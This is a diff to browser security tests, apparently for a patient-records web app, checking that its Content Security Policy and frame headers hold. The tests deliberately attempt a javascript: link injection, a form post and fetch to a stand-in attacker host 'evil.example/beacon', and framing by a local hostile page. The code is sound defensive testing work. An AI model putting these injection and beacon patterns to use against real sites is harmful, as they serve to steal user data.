@@ -1,8 +1,12 @@
+import { once } from 'node:events';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { check, findPatient } from '#/steps/eligibility.ts';
 import { title } from '#/steps/shell.ts';
 import { signIn } from '#/steps/signIn.ts';
 import { expect, test } from '#/test.ts';
 import { clerk } from '#/world/people.ts';
+import { siteUrl } from '#/world/world.ts';
 
 /** What may lie in a browser after work: the token and what names no patient. Of images, one's own and clients' logos. */
 const allowed = new Set([
@@ -55,6 +59,18 @@ test.describe('signed in', () => {
           return error instanceof Error ? error.name : 'thrown';
         }
       };
+      /** Waits until this directive has stopped an act that says nothing itself. */
+      const stopped = (directive: string, act: () => void) =>
+        new Promise<string>((resolve) => {
+          const heard = new AbortController();
+          const hear = ({ effectiveDirective }: SecurityPolicyViolationEvent) => {
+            if (!effectiveDirective.startsWith(directive)) return;
+            heard.abort();
+            resolve('stopped');
+          };
+          document.addEventListener('securitypolicyviolation', hear, { signal: heard.signal });
+          act();
+        });
       const script = document.createElement('script');
       const results = {
         script: await attempt(() => {
@@ -70,6 +86,21 @@ test.describe('signed in', () => {
           document.body.append(button);
           button.click();
           button.remove();
+        }),
+        address: await stopped('require-trusted-types-for', () => {
+          const link = document.createElement('a');
+          link.href = 'javascript:void (window.injected = true)';
+          document.body.append(link);
+          link.click();
+          link.remove();
+        }),
+        form: await stopped('form-action', () => {
+          const form = document.createElement('form');
+          form.action = 'https://evil.example/beacon';
+          form.method = 'post';
+          document.body.append(form);
+          form.submit();
+          form.remove();
         }),
         fetch: await attempt(() => fetch('https://evil.example/beacon')),
         image: await attempt(
@@ -89,6 +120,8 @@ test.describe('signed in', () => {
       script: 'TypeError',
       markup: 'TypeError',
       handler: expect.stringMatching(/TypeError|done/),
+      address: 'stopped',
+      form: 'stopped',
       fetch: 'TypeError',
       image: 'Error',
     });
@@ -98,7 +131,18 @@ test.describe('signed in', () => {
 
 test('I-07 no page can be framed by another site', async ({ page, noise }) => {
   noise.expect(/frame-ancestors|X-Frame-Options|ERR_BLOCKED_BY_RESPONSE/);
-  const frame = await page.request.get('/');
-  expect(frame.headers()).toMatchObject({ 'x-frame-options': 'DENY' });
-  expect(frame.headers()['content-security-policy']).toContain("frame-ancestors 'none'");
+  for (const path of ['/', '/Account/Profile', '/error']) {
+    const answer = await page.request.get(path);
+    expect(answer.headers()).toMatchObject({ 'x-frame-options': 'DENY' });
+    expect(answer.headers()['content-security-policy']).toContain("frame-ancestors 'none'");
+  }
+  const evil = createServer((_request, response) => {
+    response.setHeader('content-type', 'text/html').end(`<iframe src="${siteUrl()}/" title="x"></iframe>`);
+  }).listen(0, '127.0.0.1');
+  await once(evil, 'listening');
+  const { port } = evil.address() as AddressInfo; // safe: it listens on a port
+  await page.goto(`http://127.0.0.1:${port}/`);
+  await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
+  await expect(page.frameLocator('iframe').getByRole('heading', { name: 'Log in' })).toHaveCount(0);
+  evil.close();
 });
